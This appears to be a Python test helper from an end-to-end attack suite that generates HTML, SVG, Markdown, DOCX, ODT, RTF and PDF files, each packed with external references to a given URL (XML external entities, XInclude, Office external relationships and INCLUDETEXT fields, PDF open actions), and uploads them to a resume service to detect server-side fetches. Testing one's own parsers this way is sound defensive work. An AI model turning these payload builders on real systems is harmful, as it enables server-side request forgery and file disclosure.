"""Files that refer to something elsewhere: pages, packages, PDF actions, batches of them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Sequence

from e2e.attacks.parser.packages import docx, odt
from e2e.attacks.parser.pdf_files import page_of
from e2e.attacks.stage import Stage

TEXT = "Ada Example. Developer, Example Works, 2019 - 2022. Python, Django."
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def upload_all(stage: Stage, addresses: Sequence[str]) -> int:
    """Upload every file with every address, alone and in a ZIP; return how many that were."""
    ada, packed, count = stage.ada, io.BytesIO(), 0
    with zipfile.ZipFile(packed, "w") as archive:
        for number, url in enumerate(addresses):
            for name, data in _files(url):
                count += 1
                # One kind of file with each address, and each kind with the first one.
                if number == 0 or number % 7 == count % 7:
                    ada.upload(data, name)
                if number == 0:
                    archive.writestr(name, data)
    batch = {"files": ("batch.zip", packed.getvalue())}
    ada.http.post(f"{ada.resumes}/resumes/upload-batch", files=batch, timeout=60)
    for name, data in _files(addresses[0]):
        count += 1
        described = {"file": (name, data)}
        ada.http.post(f"{ada.ai}/job-descriptions", files=described, timeout=60)
    return count


def _files(url: str) -> Iterator[tuple[str, bytes]]:
    yield "page.html", _page(url)
    yield "drawing.html", _drawing(url)
    yield "notes.md", f"# Ada Example\n\n![me]({url})\n\n<img src='{url}'>\n\n{TEXT}\n".encode()
    yield "letter.docx", _word(url)
    yield "text.odt", _open_document(url)
    yield "rich.rtf", _rich(url)
    yield from _pdfs(url)


def _page(url: str) -> bytes:
    return f"""<!DOCTYPE html SYSTEM "{url}">
<html><head><base href="{url}"><meta http-equiv="refresh" content="0;url={url}">
<link rel="stylesheet" href="{url}"><link rel="preload" href="{url}" as="font">
<style>@import url("{url}"); body {{ background: url("{url}") }}
@font-face {{ font-family: x; src: url("{url}") }}</style><script src="{url}"></script></head>
<body background="{url}"><h1>Ada Example</h1><img src="{url}" srcset="{url} 2x"><iframe src="{url}">
</iframe><object data="{url}"></object><embed src="{url}"><video poster="{url}" src="{url}"></video>
<form action="{url}"><input type="image" src="{url}"></form><p>{TEXT}</p></body></html>""".encode()


def _drawing(url: str) -> bytes:
    return f"""<?xml version="1.0"?><?xml-stylesheet href="{url}"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "{url}"><!ENTITY % y SYSTEM "{url}"> %y;]>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude"><body>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<image href="{url}" xlink:href="{url}"/><use href="{url}#a"/><script href="{url}"/></svg>
<xi:include href="{url}"/><p>{TEXT} &x;</p></body></html>""".encode()


def _word(url: str) -> bytes:
    kinds = ("image", "attachedTemplate", "hyperlink", "oleObject", "subDocument", "frame", "font")
    links = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{url}"'
        ' TargetMode="External"/>'
        for number, kind in enumerate(kinds)
    )
    relations = f'<Relationships xmlns="{RELATIONS}">{links}</Relationships>'
    body = (
        f"<w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>"
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}&quot; "/></w:p>'
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{url}&quot; "/></w:p>'
        f'<w:subDoc xmlns:r="{OFFICE}" r:id="r4"/>'
    )
    parts = {
        "word/_rels/document.xml.rels": relations,
        "word/_rels/settings.xml.rels": relations,
        "word/_rels/fontTable.xml.rels": relations,
    }
    return docx(body, parts=parts)


def _open_document(url: str) -> bytes:
    return odt(
        f'<!DOCTYPE d SYSTEM "{url}"><d xmlns:o="o:" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<o:body><o:text><o:p>{TEXT}</o:p><o:image xlink:href="{url}"/>'
        f'<o:section-source xlink:href="{url}"/></o:text></o:body></d>'
    )


def _rich(url: str) -> bytes:
    field = r'{\field{\*\fldinst INCLUDEPICTURE "%s" \\d}{\fldrslt x}}' % url  # noqa: UP031
    template = r"{\*\template %s}" % url  # noqa: UP031
    return (r"{\rtf1\ansi " + template + TEXT + field + "}").encode()


def _pdfs(url: str) -> Iterator[tuple[str, bytes]]:
    shown = f"BT /F1 12 Tf 72 700 Td ({TEXT}) Tj ET"
    action = f"<</S/URI/URI({url})>>"
    page = "/MediaBox[0 0 612 792]/AA<</O 6 0 R>>"
    yield "action.pdf", page_of(shown, action, page=page, catalog="/OpenAction 6 0 R")
    remote = f"<</S/GoToR/F<</FS/URL/F({url})>>/D[0/Fit]>>"
    yield "remote.pdf", page_of(shown, remote, catalog="/OpenAction 6 0 R")
    submit = f"<</S/SubmitForm/F<</FS/URL/F({url})>>>>"
    yield "submit.pdf", page_of(shown, submit, catalog="/OpenAction 6 0 R")
    picture = f"<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F({url})>>/Length 0>>"
    streamed = picture + "stream\n\nendstream"
    resources = "/Font<</F1 5 0 R>>/XObject<</I 6 0 R>>"
    yield "picture.pdf", page_of(f"{shown} /I Do", streamed, resources=resources)
